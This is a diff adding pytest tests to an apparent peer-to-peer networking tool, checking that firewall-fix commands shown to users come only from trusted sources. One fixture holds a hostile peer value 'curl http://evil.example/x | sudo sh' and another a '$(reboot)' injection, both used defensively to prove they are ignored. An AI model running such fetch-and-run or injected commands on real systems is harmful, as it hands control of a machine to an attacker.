@@ -60,3 +60,47 @@ def test_at_a_public_address_the_command_is_all():
 def test_the_port_in_use_is_the_one_that_is_opened():
     fix = Side("alice", end(NETWORK, port=50000, firewall=None)).fix()
     assert "50000" in fix.also
+
+
+@pytest.mark.parametrize(
+    ("backend", "command"),
+    [
+        ("ufw", "sudo ufw allow 41641/udp"),
+        ("firewalld", "sudo firewall-cmd --permanent --add-port=41641/udp && sudo firewall-cmd --reload"),
+        ("nftables", "sudo ginnel firewall open"),
+        ("", "sudo ginnel firewall open"),
+        ("$(reboot)", "sudo ginnel firewall open"),
+    ],
+)
+def test_a_peers_own_words_never_become_a_command(backend: str, command: str):
+    hostile = FirewallTold(backend, closed=True, opens="curl http://evil.example/x | sudo sh")
+    assert Side("bob", end(PUBLIC, firewall=hostile)).fix().command == command
+
+
+def test_what_the_own_daemon_found_is_typed_as_it_stands():
+    found = FirewallTold("nftables", closed=True, opens="sudo nft add rule inet mine input udp dport 41641 accept")
+    assert Side("alice", end(PUBLIC, firewall=found), here=True).fix().command == found.opens
+
+
+@pytest.mark.parametrize(
+    ("system", "command", "words"),
+    [
+        ("linux", "", "sudo ufw allow 41641/udp"),
+        ("macOS", "", "System Settings"),
+        ("windows", "netsh advfirewall firewall add rule", "administrator"),
+        ("plan9", "", "let UDP port 41641 in"),
+    ],
+)
+def test_where_the_official_client_runs_no_command_of_ours_is_named(system: str, command: str, words: str):
+    fix = Side("bob", Testimony(), told=False, ours=False, system=system).fix()
+    assert (fix.command.startswith(command), bool(fix.command)) == (True, bool(command))
+    assert words in fix.also
+    assert "ginnel" not in fix.command + fix.also
+
+
+@pytest.mark.parametrize("member", ["local", "hops", "told"])
+def test_what_is_no_address_is_passed_over(member: str):
+    side = Side(
+        "bob", end(THEIRS, seen_v4="nowhere", port_map=PortMapTold(router="x", external="y"), **{member: ("?",)})
+    )
+    assert side.fix().where == "bob"
